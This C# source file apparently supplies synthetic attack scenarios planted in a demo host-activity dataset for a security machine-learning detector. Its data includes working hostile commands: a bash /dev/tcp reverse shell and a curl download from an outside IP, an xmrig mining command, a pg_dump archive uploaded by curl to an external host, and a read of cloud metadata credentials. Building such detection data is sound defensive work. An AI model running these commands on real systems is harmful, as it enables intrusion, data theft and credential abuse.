namespace SecurityML.Data;

/// <summary>The attacks planted in the demo host and network activity (day 0 = the demo start, a Monday).</summary>
internal static class HostActivityAnomalies
{
    public static IReadOnlyList<PlantedHostActivity> All { get; } =
    [
        new(
            2,
            3,
            "bastion-01",
            "PortScan",
            "bastion-01 runs nmap at 03:00 and probes 60 internal addresses on ports 22, 445 and 3389; most "
                + "connections are rejected.",
            [],
            [new("nmap", "bash", "admin", "nmap -sS -p 22,445,3389 10.20.0.0/16", 1, ActivityShape.Steady)],
            ScanTargets: 60
        ),
        new(
            4,
            2,
            "web-02",
            "ReverseShell",
            "web-02's PHP pool spawns a shell that connects out to 185.220.101.7:4444 at 02:00, looks around and "
                + "runs a downloaded script.",
            [new("185.220.101.7", 4444, 300_000, 120_000, 1, ActivityShape.Steady)],
            [
                new(
                    "bash",
                    "php-fpm",
                    "www-data",
                    "bash -c 'bash -i >& /dev/tcp/185.220.101.7/4444 0>&1'",
                    1,
                    ActivityShape.Steady
                ),
                new(
                    "curl",
                    "bash",
                    "www-data",
                    "curl -s http://185.220.101.7/x.sh -o /tmp/x.sh",
                    2,
                    ActivityShape.Steady
                ),
                new("chmod", "bash", "www-data", "chmod +x /tmp/x.sh", 1, ActivityShape.Steady),
                new("id", "bash", "www-data", "id", 1, ActivityShape.Steady),
                new("uname", "bash", "www-data", "uname -a", 1, ActivityShape.Steady),
                new("cat", "bash", "www-data", "cat /etc/passwd", 1, ActivityShape.Steady),
                new("x.sh", "bash", "www-data", "/tmp/x.sh", 1, ActivityShape.Steady),
            ]
        ),
        new(
            6,
            14,
            "app-01",
            "CryptoMiner",
            "app-01 starts xmrig from /tmp on a Sunday afternoon, talking to a mining pool on ports 3333 and 14444.",
            [
                new("45.9.148.3", 3333, 2_000_000, 1_500_000, 1, ActivityShape.Steady),
                new("45.9.148.4", 14444, 1_500_000, 1_000_000, 1, ActivityShape.Steady),
            ],
            [
                new(
                    "sh",
                    "python3",
                    "app",
                    "sh -c 'cd /tmp && ./xmrig -o 45.9.148.3:3333 --donate-level 1'",
                    4,
                    ActivityShape.Steady
                ),
                new("xmrig", "sh", "app", "/tmp/xmrig -o 45.9.148.3:3333 --donate-level 1", 8, ActivityShape.Steady),
            ]
        ),
        new(
            8,
            1,
            "db-01",
            "Exfiltration",
            "db-01 dumps the orders database at 01:00, an hour before its backup, and uploads 2.5 GB to "
                + "203.0.113.66 outside AWS.",
            [new("203.0.113.66", 443, 2_500_000_000, 3_000_000, 1, ActivityShape.Steady)],
            [
                new("pg_dump", "bash", "postgres", "pg_dump -Fc orders -f /tmp/o.dump", 1, ActivityShape.Steady),
                new("tar", "bash", "postgres", "tar czf /tmp/o.tgz /tmp/o.dump", 1, ActivityShape.Steady),
                new(
                    "curl",
                    "bash",
                    "postgres",
                    "curl -T /tmp/o.tgz https://203.0.113.66/upload",
                    1,
                    ActivityShape.Steady
                ),
            ]
        ),
        new(
            9,
            22,
            "build-01",
            "CredentialAccess",
            "build-01 reads the instance role's credentials from the metadata service at 22:00 and enumerates IAM "
                + "and S3 with them.",
            [
                new("52.94.225.1", 443, 400_000, 2_000_000, 1, ActivityShape.Steady),
                new("52.94.225.2", 443, 300_000, 5_000_000, 1, ActivityShape.Steady),
                new("52.94.225.3", 443, 200_000, 1_000_000, 1, ActivityShape.Steady),
            ],
            [
                new(
                    "curl",
                    "sh",
                    "builder",
                    "curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/build-role",
                    6,
                    ActivityShape.Steady
                ),
                new("aws", "sh", "builder", "aws iam list-users", 12, ActivityShape.Steady),
                new("sh", "runner", "builder", "sh -c 'aws s3 ls --recursive'", 3, ActivityShape.Steady),
            ]
        ),
    ];
}
